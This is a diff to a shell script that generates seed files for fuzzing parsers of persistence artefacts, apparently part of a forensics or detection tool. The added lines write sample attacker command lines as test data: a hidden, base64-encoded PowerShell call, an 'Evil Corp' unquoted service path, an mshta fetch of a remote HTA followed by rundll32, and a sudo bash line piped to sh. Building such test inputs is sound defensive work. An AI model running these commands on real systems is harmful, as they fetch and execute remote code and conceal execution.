@@ -13,6 +13,13 @@ mkdir -p seeds/crontab seeds/anacrontab seeds/systemd_unit
 printf '# c\nSHELL=/bin/sh\n*/5 * * * * root a%%b\\%%c\n@reboot root x\n' >seeds/crontab/system
 printf 'RANDOM_DELAY=45\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 15 m x\n' >seeds/anacrontab/a
 printf '[Timer]\nOnCalendar=daily\nPersistent=true\n[Service]\nExecStart=/bin/x \\\n  --y\nUser=z\n' >seeds/systemd_unit/u
+# Program files: the real PE files of the shared corpus (never copied into git); command lines.
+mkdir -p seeds/binary seeds/command_line
+cp ../../shared/corpus-real/pe/* seeds/binary/ 2>/dev/null || true
+printf '%s' 'powershell.exe -NoP -W Hidden -enc dwBoAG8AYQBtAGkA' >seeds/command_line/ps
+printf '%s' 'C:\Program Files\Evil Corp\evil.exe -k x' >seeds/command_line/unquoted
+printf '%s' 'cmd /c "mshta http://198.51.100.7/p.hta & rundll32 a.dll,Start"' >seeds/command_line/cmd
+printf '%s' "cd / && timeout 30 sudo -u w bash -c \"\$BIN/run \${X}\" | sh # c" >seeds/command_line/sh
 # Text logs and histories: the files of the linux-auth image (written by the real daemons).
 mkdir -p seeds/text_logs
 if command -v icat >/dev/null && command -v fls >/dev/null; then
